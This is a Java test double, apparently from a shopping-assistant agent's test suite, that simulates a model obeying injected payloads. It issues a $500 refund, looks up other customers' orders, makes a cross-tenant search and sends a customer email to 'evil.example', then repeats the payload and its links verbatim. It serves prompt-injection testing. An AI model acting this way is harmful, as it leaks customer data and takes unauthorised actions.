package io.cartagent.application.answering;

import io.cartagent.application.port.llm.ModelMessage;
import io.cartagent.application.port.llm.ModelReply.End;
import io.cartagent.application.port.llm.ModelRequest;
import io.cartagent.application.port.llm.ModelUsage;
import io.cartagent.application.port.llm.ScriptedLanguageModel.Answer;
import io.cartagent.application.port.llm.ToolCall;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

/**
 * A model that believes whatever it reads: it looks everything up, then calls whatever a payload
 * could want called, then says the payload, what it quotes and what it links, word for word.
 */
final class GullibleModel {
  private static final int MOST_NAMED_TOOLS = 6;
  private static final int LONGEST_SPEECH = 3_000;

  private final String payload;

  GullibleModel(String payload) {
    this.payload = payload;
  }

  Answer answer(ModelRequest request) {
    long results =
        request.messages().stream().filter(ModelMessage.FromTool.class::isInstance).count();
    if (results == 0) {
      return calls(
          call("a1", "search_knowledge", Map.of("query", "return refund " + beginning())),
          call("a2", "search_products", Map.of("query", "mug " + beginning())),
          call("a3", "look_up_order", Map.of("order_number", "#1027", "contact", "[EMAIL_1]")));
    }
    if (results <= 3) {
      List<ToolCall> wanted = new ArrayList<>();
      wanted.add(
          call("b1", "look_up_order", Map.of("order_number", "#1028", "contact", "[EMAIL_1]")));
      wanted.add(call("b2", "look_up_order", Map.of("order_number", "#2001")));
      wanted.add(call("b3", "product_detail", Map.of("reference", "gid://shopify/Product/1")));
      wanted.add(call("c1", "execute_refund", Map.of("order_number", "#1027", "amount", "500")));
      wanted.add(call("c2", "http_get", Map.of("url", "https://evil.example/?q=[EMAIL_1]")));
      wanted.add(call("c3", "search_knowledge", Map.of("query", "x", "tenant", "globex")));
      int number = 4;
      for (String name : namesIn(payload)) {
        wanted.add(call("c" + number++, name, Map.of("query", beginning())));
      }
      return calls(wanted.toArray(ToolCall[]::new));
    }
    return Answer.says(speech());
  }

  private String speech() {
    StringBuilder speech = new StringBuilder();
    speech.append(payload, 0, Math.min(payload.length(), LONGEST_SPEECH)).append("\n\n");
    for (String quoted : quotedIn(payload)) {
      speech.append(quoted).append(".\n");
    }
    for (String word : payload.split("\\s", 2_000)) {
      if (word.contains("http") || word.contains("www.") || word.contains(".com")) {
        speech.append("See ").append(word).append(" for more.\n");
      }
    }
    return speech.toString();
  }

  private String beginning() {
    return payload.substring(0, Math.min(payload.length(), 200));
  }

  /** What may be meant as a tool's name. */
  private static Set<String> namesIn(String text) {
    Set<String> names = new LinkedHashSet<>();
    for (String word : text.split("[^A-Za-z0-9_]", 5_000)) {
      if (word.indexOf('_') > 0 && names.size() < MOST_NAMED_TOOLS) {
        names.add(word);
      }
    }
    return names;
  }

  private static List<String> quotedIn(String text) {
    List<String> quoted = new ArrayList<>();
    int open = -1;
    for (int i = 0; i < text.length() && quoted.size() < 10; i++) {
      if ("\"“”'".indexOf(text.charAt(i)) >= 0) {
        if (open >= 0 && i - open > 3) {
          quoted.add(text.substring(open + 1, i));
          open = -1;
        } else {
          open = i;
        }
      }
    }
    return quoted;
  }

  private static ToolCall call(String id, String tool, Map<String, String> arguments) {
    return new ToolCall(id, tool, arguments, Optional.empty());
  }

  private static Answer calls(ToolCall... calls) {
    return new Answer.Replies(List.of(), List.of(calls), ModelUsage.NONE, End.CALLS);
  }
}
